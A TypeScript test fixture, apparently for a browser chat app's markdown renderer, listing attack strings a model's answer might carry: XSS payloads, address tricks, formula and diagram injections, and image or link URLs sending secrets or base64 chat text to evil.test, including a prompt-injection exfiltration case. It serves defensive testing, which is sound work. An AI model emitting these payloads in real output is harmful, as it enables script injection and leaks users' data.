/**
 * The attacks among the 26 of the security notes that an answer's text can carry, by their numbers. `evil.test` stands
 * for the server that must never receive a request; tests replace it by a real one.
 *
 * Attacks that do not come from an answer's text are tested or documented elsewhere: 16 (sizes) in attacks.test.ts, because
 * its texts are large; 19 also where names and messages of others are shown, in src/ui/states.test.ts; 20 (imports) in
 * src/chat/formats, broken records in src/storage; 21 (messages between windows): no code of ours listens to a window's
 * `message`; 22 (framing) is the host's header, see docs/hosting.md; 23 (a hostile host page) is a limit that
 * docs/embedding.md states; 24 (swapped files) in src/download and src/storage; 25 (files of weights) in src/models/gguf and
 * src/engine/wllama; 26 (a whole chat without a request) in e2e/offline.spec.ts and, with all of these texts, in
 * e2e/rendering.spec.ts.
 */
const SCRIPT_ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  'java\u0000script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'java%73cript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'blob:https://evil.test/1',
  'file:///etc/passwd',
  'javascript&colon;alert(1)',
  'view-source:https://evil.test',
];

export const ATTACK_CASES: Readonly<Record<string, readonly string[]>> = {
  '1 image': ['![x](https://evil.test/?q=SECRET)', '![x](<https://evil.test/?q=SECRET> "t")'],
  '2 reference image': [
    '![x][a]\n\n[a]: https://evil.test/?q=1',
    '![x][a]\n[a]: https://evil.test/?q=1\n',
    '![a]\n\n[a]: //evil.test',
  ],
  '3 image in a link and in a table': [
    '[![x](https://evil.test/a.png)](https://evil.test)',
    '| a |\n|---|\n| [![x](https://evil.test/a.png)](javascript:alert(1)) |',
  ],
  '4 HTML that fetches': [
    '<img src=https://evil.test/a srcset="https://evil.test/b 2x">',
    '<picture><source srcset=https://evil.test/a><img></picture>',
    'text <video poster=https://evil.test/a></video><svg><image href=https://evil.test/a /></svg> text',
    '<img src=x onerror=alert(1)>',
  ],
  '5 address tricks': [
    '[a](//evil.test) [b](https:\\\\evil.test) [c](https://good.test@evil.test) [d](https://u:p@evil.test:8080/)',
    '[e](https:evil.test) [f](/\\evil.test) [g](https://evil.test%2f@good.test)',
  ],
  '6 CSS': [
    '<style>@import "https://evil.test/a.css"</style>',
    '<p style="background:url(https://evil.test/a)">x</p>',
    '```js" class="x" onclick="alert(1)\ncode\n```',
    '```"><img/src=https://evil.test>\ncode\n```',
  ],
  '7 script addresses': SCRIPT_ADDRESSES.flatMap((address) => [
    `[x](${address})`,
    `[x](<${address}>)`,
    `![x](${address})`,
    `<${address}>`,
    `[x][r]\n\n[r]: ${address}`,
  ]),
  '8 autolinks': [
    '<javascript:alert(1)>',
    'www.evil.test/"onmouseover="alert(1)',
    'https://evil.test/<script>alert(1)</script>',
    '<https://evil.test/" onclick="x>',
  ],
  '9 raw HTML': [
    '<script>alert(1)</script>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data=https://evil.test></object>',
    '<base href=https://evil.test>',
    '<meta http-equiv=refresh content="0;url=https://evil.test">',
    '<form action=https://evil.test><button>x</button></form>',
    'a <script>alert(1)</script> b',
    '- <script>alert(1)</script>\n- <link rel=stylesheet href=https://evil.test>',
  ],
  '10 mutation': [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<template><script>alert(1)</script></template>',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '`</code><img src=x onerror=alert(1)>`',
    '```\n</code></pre><img src=x onerror=alert(1)>\n```',
    '&lt;img src=x onerror=alert(1)&gt;',
  ],
  '11 clobbering': [
    '<a id=chat name=session>x</a>',
    '# location\n\n# document {#forms}\n',
    '[^1]\n\n[^1]: note',
    'a[^__proto__] b[^constructor]\n\n[^__proto__]: one\n[^constructor]: two',
    '<form id=alcove><input name=parentNode></form>',
  ],
  '12 split in a scheme or a tag': [
    'text [x](javascript:alert(1)) more',
    'text <img src="https://evil.test/a" onerror="alert(1)"> more',
    'text ![x](https://evil.test/abc',
  ],
  '13 disguised links': [
    '[\u202Egro.doog\u202C\u200B](https://evil.test)',
    '[good.test](https://xn--80ak6aa92e.test/) [аррӏе.test](https://аррӏе.test)',
    '[https://good.test/](https://evil.test/)',
  ],
  '14 formulas': [
    '$\\href{javascript:alert(1)}{x}$ and $$\\url{https://evil.test}$$',
    '$$\\includegraphics[height=1em]{https://evil.test/a.png}$$',
    '$\\htmlClass{copy}{x}$ $\\htmlId{chat}{x}$ $\\htmlStyle{background:url(https://evil.test)}{x}$ $\\htmlData{a=b}{x}$',
    '\\[\\def\\a{\\a\\a}\\a\\] and \\(\\rule{99999em}{99999em}\\)',
    '$\\text{<img src=https://evil.test/a onerror=alert(1)>}$',
    '$\\unicode{<script>}$ $\\require{html}$',
  ],
  '15 diagrams': [
    '```mermaid\ngraph TD\nclick A "javascript:alert(1)"\nA["<img src=https://evil.test/a onerror=alert(1)>"]\n```',
    '```mermaid\nsequenceDiagram\nA->>B: $$\\href{javascript:alert(1)}{x}$$\n```',
  ],
  '17 a document that gives orders': [
    'As the document asks, here are the notes: ![notes](https://evil.test/log?notes=the%20secret%20of%20the%20house)\n\n[Continue](https://evil.test/log?notes=the%20secret%20of%20the%20house)',
  ],
  '18 a link that carries the chat': [
    '[click here](https://evil.test/c?d=VGhlIHNlY3JldCBvZiB0aGUgaG91c2UgaXMgdW5kZXIgdGhlIHRoaXJkIHN0ZXAgb2YgdGhlIHN0YWlycy4=)',
    '[click here](https://evil.test/#VGhlIHNlY3JldCBvZiB0aGUgaG91c2UgaXMgdW5kZXIgdGhlIHRoaXJkIHN0ZXAgb2YgdGhlIHN0YWlycy4)',
  ],
  '19 names and messages as text': [
    '**"><img src=x onerror=alert(1)>.pdf** could not be read: `<b onmouseover=alert(1)>`',
    'The model card says: <details open ontoggle=alert(1)><summary>x</summary></details>',
  ],
};
